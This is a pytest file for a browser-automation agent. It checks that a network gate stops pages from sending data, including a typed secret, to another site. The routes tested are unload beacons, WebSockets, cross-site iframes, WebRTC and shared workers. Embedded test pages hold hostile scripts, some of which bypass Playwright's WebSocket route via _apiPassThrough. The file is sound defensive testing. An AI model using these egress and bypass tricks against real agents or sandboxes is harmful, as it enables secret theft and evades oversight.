"""The ways out that were found open, each on its own (test_egress.py generates the combinations): requests
sent while a page unloads, WebSockets (and a page stepping around Playwright's WebSocket route), a secret
carried out through them, Enter in a field of another site's iframe, and WebRTC."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from notebook_agent.agent import PageAgent, PolicyName
from notebook_agent.browser import BrowserSession
from notebook_agent.llm.scripted import ScriptedModel
from tests.agent.safety.test_egress import ANY_POLICY, POLICIES, Sites, carries_secret, run, serve_sites
from tests.agent.test_page_agent import index_of, step


@pytest.fixture(scope="module")
def sites() -> Iterator[Sites]:
    yield from serve_sites()


UNASKED = [
    ("beacon", "unload", "top", "raw"),
    ("keepalive", "unload", "top", "raw"),
    ("keepalive", "unload", "same-site iframe", "raw"),
    ("websocket", "immediate", "top", "raw"),
    ("websocket", "timer", "worker", "raw"),
    ("image", "immediate", "cross-site iframe", "url"),
]


@pytest.mark.parametrize("policy", POLICIES)
@pytest.mark.parametrize("combo", UNASKED, ids=lambda c: "/".join(c))
async def test_a_listed_way_out_does_not_reach_the_other_site_unasked(
    browser: BrowserSession, sites: Sites, combo: Any, policy: str
) -> None:
    result = await run(browser, sites, combo, **POLICIES[policy])
    assert sites.log == [], (sites.log, [s.result for s in result.steps])


SECRET_WAYS = [
    ("beacon", "unload", "top", "raw"),
    ("keepalive", "unload", "top", "base64"),
    ("websocket", "immediate", "top", "json"),
    ("websocket", "immediate", "worker", "url"),
]


@pytest.mark.parametrize("policy", ANY_POLICY)
@pytest.mark.parametrize("combo", SECRET_WAYS, ids=lambda c: "/".join(c))
async def test_a_typed_secret_does_not_leave_for_another_site(
    browser: BrowserSession, sites: Sites, combo: Any, policy: str
) -> None:
    result = await run(browser, sites, combo, **ANY_POLICY[policy])
    leaked = [e for e in sites.log if carries_secret(e)]
    assert leaked == [], (leaked, [s.result for s in result.steps])
    if combo[2] != "worker" and policy != "deny-risky":  # (deny-risky refuses the socket before any message;
        # a worker's socket is refused by the tab's network, which tells no one)
        told = [s.result for s in result.steps] + [s.request.state for s in result.steps if s.request is not None]
        assert any("carried the secret 'pw'" in text for text in told), told


async def test_a_page_stepping_around_the_websocket_route_opens_nothing(browser: BrowserSession, sites: Sites) -> None:
    """Playwright's WebSocket route is a script in the page; its mock can be told to pass a socket through.
    The tab's network refuses a native socket the door did not judge."""
    sites.pages["bypass"] = (
        "<!doctype html><title>bypass</title><button onclick='go()'>Continue</button><script>"
        f"function go() {{ const w = new WebSocket({json.dumps(sites.ws + '/around')});"
        " try { w._apiPassThrough(); } catch (e) {}"
        " w.onopen = () => w.send('around'); }</script>"
    )
    sites.log.clear()
    agent = PageAgent(
        model=ScriptedModel(
            [
                step("click_element_by_index", lambda c: {"index": index_of(c, r"Continue")}),
                step("wait", {"seconds": 1}),
                step("done", {"text": "ok", "success": True}),
            ]
        ),
        browser=browser,
        start_url=f"{sites.here}/raw/bypass",
        approval="deny-risky",
    )
    result = await agent.run("Continue")
    assert result.status == "completed", result.error
    assert sites.log == [], sites.log


async def look(browser: BrowserSession, sites: Sites, page: str) -> None:
    """A run under ``deny-risky`` that opens ``/raw/<page>`` of the run's site and waits a second there."""
    sites.log.clear()
    agent = PageAgent(
        model=ScriptedModel([step("wait", {"seconds": 1}), step("done", {"text": "ok", "success": True})]),
        browser=browser,
        start_url=f"{sites.here}/raw/{page}",
        approval="deny-risky",
    )
    result = await agent.run("Look")
    assert result.status == "completed", result.error


async def test_a_frame_of_another_site_stepping_around_the_websocket_route_opens_nothing(
    browser: BrowserSession, sites: Sites
) -> None:
    """A frame of another site runs in a process of its own: it is held at its start until it refuses native
    sockets as its tab does, so a socket it opens around the route, from its first line or later, opens nothing
    (a frame inside it, of a third site, too)."""
    bypass = (
        f"const WS = {json.dumps(sites.ws)};"
        "function go(tag) { const w = new WebSocket(WS + '/' + tag);"
        " try { w._apiPassThrough(); } catch (e) {} w.onopen = () => w.send(tag); }"
    )
    sites.pages["oopif-inner"] = (
        f"<!doctype html><title>inner</title><p>inner</p><script>{bypass} go('first-line');"
        " setTimeout(() => go('timer'), 300);</script>"
        f"<iframe src='{sites.here}/raw/oopif-deeper'></iframe>"
    )
    sites.pages["oopif-deeper"] = f"<!doctype html><title>deeper</title><script>{bypass} go('deeper');</script>"
    sites.pages["oopif"] = (
        f"<!doctype html><title>top</title><h1>Top</h1><iframe src='{sites.frames}/raw/oopif-inner'></iframe>"
    )
    await look(browser, sites, "oopif")
    frames = [f.url for f in browser.page.frames]
    assert any("oopif-inner" in u for u in frames) and any("oopif-deeper" in u for u in frames), frames
    assert sites.log == [], sites.log


@pytest.mark.parametrize("policy", POLICIES)
async def test_enter_in_a_field_of_another_sites_iframe_is_judged(
    browser: BrowserSession, sites: Sites, policy: str
) -> None:
    """Enter submits the iframe's form to the iframe's own site: another site than the tab's. The door judges
    a request from the tab's top document, whichever frame sends it."""
    sites.pages["framed"] = (
        f"<!doctype html><title>shop</title><h1>Shop</h1><iframe src='{sites.there}/iframe-form'></iframe>"
    )
    sites.log.clear()
    agent = PageAgent(
        model=ScriptedModel(
            [
                step("input_text", lambda c: {"index": index_of(c, r"name=q"), "text": "hello"}),
                step("send_keys", {"keys": "Enter"}),
                step("wait", {"seconds": 1}),
                step("done", {"text": "ok", "success": True}),
            ]
        ),
        browser=browser,
        start_url=f"{sites.here}/raw/framed",
        **POLICIES[policy],
    )
    result = await agent.run("Search")
    assert result.status == "completed", result.error
    assert [e for e in sites.log if e.startswith("POST")] == [], sites.log
    assert any(e.startswith("GET /iframe-form") for e in sites.log)  # the frame itself loaded: a plain read


async def test_webrtc_is_not_there(browser: BrowserSession, sites: Sites) -> None:
    """WebRTC's traffic is seen by no route: the page, and a frame it makes on the spot, have none of it."""
    sites.pages["rtc"] = "<!doctype html><title>rtc</title><p>rtc</p>"
    await browser.open(f"{sites.here}/raw/rtc")
    found = await browser.call(
        lambda: browser.page.evaluate(
            "() => { const f = document.body.appendChild(document.createElement('iframe'));"
            " return [typeof RTCPeerConnection, typeof webkitRTCPeerConnection,"
            " typeof f.contentWindow.RTCPeerConnection]; }"
        )
    )
    assert found == ["undefined", "undefined", "undefined"], found


async def test_a_shared_worker_reaches_nothing(browser: BrowserSession, sites: Sites) -> None:
    """A shared worker is a target outside every tab: neither the route nor a tab's DevTools session sees its
    requests or sockets, so the page (and a frame it makes on the spot, and a frame of another site) has none,
    and a page that tries one reaches nothing."""
    sites.pages["sw.js"] = (
        f"const T={json.dumps(sites.there)}, WS={json.dumps(sites.ws)};"
        "onconnect = () => { fetch(T + '/shared', {method: 'POST', body: 'data', mode: 'no-cors'});"
        " const w = new WebSocket(WS + '/shared'); w.onopen = () => w.send('shared'); };"
    )
    start = (
        "function start(w) { try { const s = new w.SharedWorker('/raw/sw.js'); s.port.start(); return 'started'; }"
        " catch (e) { return typeof w.SharedWorker; } }"
    )
    sites.pages["shared-inner"] = f"<!doctype html><title>inner</title><script>{start} start(window);</script>"
    sites.pages["shared"] = (
        f"<!doctype html><title>shared</title><h1>Shared</h1><script>{start}"
        " window.tried = [start(window), start(document.body.appendChild(document.createElement('iframe'))"
        ".contentWindow)];</script>"
        f"<iframe src='{sites.frames}/raw/shared-inner'></iframe>"
    )
    await look(browser, sites, "shared")
    tried = await browser.call(lambda: browser.page.evaluate("() => window.tried"))
    assert tried == ["undefined", "undefined"], tried
    assert sites.log == [], sites.log


async def test_a_run_without_a_door_after_one_with_it_opens_its_sockets(browser: BrowserSession, sites: Sites) -> None:
    """The tab's refusal of native sockets stays with the tab after a gated run; a later run under ``auto``
    without secrets has nothing to judge, and its page's sockets connect as if there were no door."""
    sites.pages["socket"] = (
        "<!doctype html><title>socket</title><button onclick='go()'>Continue</button><script>"
        f"function go() {{ const w = new WebSocket({json.dumps(sites.ws + '/after')});"
        " w.onopen = () => w.send('hello'); }</script>"
    )
    script = [
        step("click_element_by_index", lambda c: {"index": index_of(c, r"Continue")}),
        step("wait", {"seconds": 1}),
        step("done", {"text": "ok", "success": True}),
    ]
    cases: tuple[tuple[PolicyName, bool], ...] = (("deny-risky", False), ("auto", True))
    for approval, arrives in cases:
        sites.log.clear()
        agent = PageAgent(
            model=ScriptedModel(list(script)),
            browser=browser,
            start_url=f"{sites.here}/raw/socket",
            approval=approval,
        )
        result = await agent.run("Continue")
        assert result.status == "completed", result.error
        assert (sites.log == ["WS /after", "WSMSG hello"]) is arrives, (approval, sites.log)
